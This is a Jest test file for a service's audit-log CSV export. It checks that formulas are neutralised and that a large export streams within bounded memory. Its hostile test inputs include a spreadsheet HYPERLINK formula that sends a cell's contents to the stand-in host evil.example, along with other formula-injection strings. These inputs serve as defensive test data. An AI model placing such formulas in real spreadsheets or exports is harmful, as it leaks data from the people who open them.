import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { AUDIT_CSV_COLUMNS, auditCsvFileName } from '@ihe/contracts';
import { prepareServiceTestEnv, type ServiceTestEnv } from '@ihe/platform/testing';
import { startTestCatalog, type TestCatalog } from './catalog-test-app.js';
import { salesWorld } from './sales-world.js';
import type { TestUser } from './vendor-world.js';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const HOSTILE_NAMES = [
  'Yam, the big one',
  'Rice "premium" grade',
  'Beans\nsecond line\r\nthird',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  '+2348030000000',
  '-1+1',
  '@SUM(A1:A9)',
  '=1+1',
];

describe('catalog: the audit log CSV export (spec 2 §9)', () => {
  let env: ServiceTestEnv;
  let catalog: TestCatalog;
  let manager: TestUser;
  const world = salesWorld(() => catalog);
  const exportCsv = (query = '', user: TestUser = manager) =>
    fetch(`${catalog.url}/api/v1/sales/audit-log/export${query}`, {
      headers: { authorization: `Bearer ${user.token}` },
    });

  beforeAll(async () => {
    env = await prepareServiceTestEnv();
    catalog = await startTestCatalog();
    manager = await world.salesManager(true, '=HYPERLINK("http://evil.example","Ada, "Obi"")');
  });

  afterAll(async () => {
    await catalog?.app.close();
    await env?.cleanup();
  });

  it('round-trips hostile names through a real CSV parser, formulas neutralised', async () => {
    const actor = { id: manager.id, role: 'sales_manager' as const };
    for (const name of HOSTILE_NAMES)
      await catalog.writer.create({ name, category: 'yam', price: 500, stockQuantity: 3 }, undefined, {
        actor,
      });
    const response = await exportCsv('?action=create');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="${auditCsvFileName(new Date())}"`,
    );
    expect(auditCsvFileName(new Date('2026-11-24T12:00:00Z'))).toBe('audit-log-2026-11-24.csv');
    const rows: string[][] = parse(await response.text(), { relax_column_count: false });
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    const body = rows.slice(1);
    // Newest first: the names come back in reverse order, whole, each in its own Details cell.
    expect(body.map((row) => row[3])).toEqual(
      [...HOSTILE_NAMES].reverse().map((name) => `Created ${name} (price ₦500, stock 3 kg)`),
    );
    for (const [type, action, user, , timestamp] of body) {
      expect([type, action]).toEqual(['Product', 'create']);
      expect(user).toBe(`'=HYPERLINK("http://evil.example","Ada, "Obi"")`);
      expect(new Date(timestamp).toISOString()).toBe(timestamp);
    }
    for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('streams: 20,000 large entries export with a bounded memory rise', async () => {
    const [{ id: productId }] = await catalog.db.query(`SELECT id FROM products LIMIT 1`);
    // Each entry's Details repeats a 2,000-character description before and after: about 4 kB a row.
    await catalog.db.query(
      `INSERT INTO product_audit_log (action, product_id, product_name, actor_id, actor_name, old_data, new_data)
       SELECT 'update', $1, 'Yam ' || i, $2, 'Ada Obi',
              jsonb_build_object('description', repeat('a', 2000), 'price', i),
              jsonb_build_object('description', repeat('b', 2000), 'price', i + 1)
         FROM generate_series(1, 20000) AS i`,
      [productId, manager.id],
    );
    gc();
    const baseline = process.memoryUsage();
    let peakHeap = baseline.heapUsed;
    let peakRss = baseline.rss;
    // Live memory: collected before each sample, so garbage not yet swept does not count as held. Once a
    // second: a full collection of this worker's heap (every earlier test file of the run) takes long enough
    // that sampling more often left the export little time to run in the full suite.
    const sampler = setInterval(() => {
      gc();
      const now = process.memoryUsage();
      peakHeap = Math.max(peakHeap, now.heapUsed);
      peakRss = Math.max(peakRss, now.rss);
    }, 1000);
    const response = await exportCsv('?action=update');
    expect(response.status).toBe(200);
    let bytes = 0;
    let lines = 0;
    const reader = response.body!.getReader();
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.length;
      for (const byte of value) if (byte === 10) lines++;
    }
    clearInterval(sampler);
    const heapRise = peakHeap - baseline.heapUsed;
    const rssRise = peakRss - baseline.rss;
    console.log(
      `audit export: ${lines - 1} rows, ${(bytes / 2 ** 20).toFixed(1)} MiB of CSV; ` +
        `peak live heap rise ${(heapRise / 2 ** 20).toFixed(1)} MiB, peak RSS rise ${(rssRise / 2 ** 20).toFixed(1)} MiB`,
    );
    expect(lines - 1).toBe(20_000);
    expect(bytes).toBeGreaterThan(75 * 2 ** 20);
    // Holding the log (or the CSV) whole would take more than the CSV's size; a stream takes a few batches.
    expect(heapRise).toBeLessThan(bytes / 3);
    // ~20 s alone; beside the rest of `npm test` on a 2-core machine it has taken over 120 s. The test is
    // about memory: the limit only stops a hung export.
  }, 300_000);
});
